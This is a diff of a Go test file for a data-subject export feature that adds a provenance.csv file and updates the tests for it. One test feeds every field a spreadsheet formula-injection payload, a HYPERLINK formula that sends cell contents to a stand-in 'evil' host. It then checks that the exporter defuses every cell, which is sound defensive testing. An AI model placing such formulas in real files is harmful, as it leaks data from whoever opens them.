@@ -17,7 +17,7 @@ import (
 	"custodia/internal/apperr"
 )
 
-var packageFiles = []string{"subject.json", "records.csv", "consents.csv", "access_log.csv", "README.txt"}
+var packageFiles = []string{"subject.json", "records.csv", "consents.csv", "access_log.csv", "provenance.csv", "README.txt"}
 
 // openPackage unzips a package: its file names in order and their bodies.
 func openPackage(t testing.TB, b []byte) ([]string, map[string][]byte) {
@@ -82,7 +82,9 @@ func samplePackage() PackageData {
 			"notices": []any{},
 		},
 		AccessLog: []AccessEntry{{At: genAt.Add(-time.Hour), Actor: "agent_7", Action: "record.read", Purpose: "support", Collection: "customers", Decision: "allow"}},
-		Systems:   []any{},
+		Provenance: []ProvenanceEntry{{JobID: "crm-2025-01", Source: "Lan's customers.xlsx", SystemID: "sys_lan", Collection: "customers", RecordID: "rec_1",
+			Row: "Sheet1!12", ImportedAt: genAt.Add(-48 * time.Hour), Purpose: "support", LegalBasis: "contract"}},
+		Systems: []any{},
 	}
 }
 
@@ -115,6 +117,10 @@ func TestBuildPackageFiles(t *testing.T) {
 		{"access_log.csv", [][]string{
 			{"at", "actor", "action", "purpose", "collection", "decision"},
 			{"2025-04-01T07:00:00Z", "agent_7", "record.read", "support", "customers", "allow"},
+		}},
+		{"provenance.csv", [][]string{
+			{"job_id", "source", "system_id", "collection", "record_id", "row", "imported_at", "purpose", "legal_basis"},
+			{"crm-2025-01", "Lan's customers.xlsx", "sys_lan", "customers", "rec_1", "Sheet1!12", "2025-03-30T08:00:00Z", "support", "contract"},
 		}},
 	}
 	for _, tc := range tests {
@@ -205,11 +211,12 @@ func jsonString(v any) string {
 func TestBuildPackageEveryCellDefused(t *testing.T) {
 	const f = "=HYPERLINK(\"http://evil/?\"&A1)"
 	d := PackageData{Subject: "sub_ann", GeneratedAt: genAt,
-		Records:   []ExportRecord{{Collection: f, ID: f, Data: map[string]any{f: "x"}}},
-		Consents:  map[string]any{"history": []any{map[string]any{"seq": 1, "purpose": f, "action": f, "channel": f}}},
-		AccessLog: []AccessEntry{{At: genAt, Actor: f, Action: f, Purpose: f, Collection: f, Decision: f}}}
+		Records:    []ExportRecord{{Collection: f, ID: f, Data: map[string]any{f: "x"}}},
+		Consents:   map[string]any{"history": []any{map[string]any{"seq": 1, "purpose": f, "action": f, "channel": f}}},
+		AccessLog:  []AccessEntry{{At: genAt, Actor: f, Action: f, Purpose: f, Collection: f, Decision: f}},
+		Provenance: []ProvenanceEntry{{JobID: f, Source: f, SystemID: f, Collection: f, RecordID: f, Row: f, Purpose: f, LegalBasis: f}}}
 	_, bodies := buildPackage(t, d)
-	for _, name := range []string{"records.csv", "consents.csv", "access_log.csv"} {
+	for _, name := range []string{"records.csv", "consents.csv", "access_log.csv", "provenance.csv"} {
 		for i, row := range readCSV(t, name, bodies[name]) {
 			for j, cell := range row {
 				if formula(cell) {
@@ -242,7 +249,7 @@ func TestBuildPackageEmpty(t *testing.T) {
 			if err := json.Unmarshal(bodies["subject.json"], &raw); err != nil {
 				t.Fatal(err)
 			}
-			for _, k := range []string{"access_log", "systems"} {
+			for _, k := range []string{"access_log", "systems", "provenance"} {
 				if string(raw[k]) != "[]" {
 					t.Errorf("%s is %s, want []", k, raw[k])
 				}
@@ -259,6 +266,7 @@ func TestBuildPackageEmpty(t *testing.T) {
 				"records.csv":    "collection,record_id,field,value\n",
 				"consents.csv":   "seq,purpose,action,at,method,channel,notice_version,collected_by\n",
 				"access_log.csv": "at,actor,action,purpose,collection,decision\n",
+				"provenance.csv": "job_id,source,system_id,collection,record_id,row,imported_at,purpose,legal_basis\n",
 			} {
 				if string(bodies[file]) != header {
 					t.Errorf("%s is %q, want only its header", file, bodies[file])
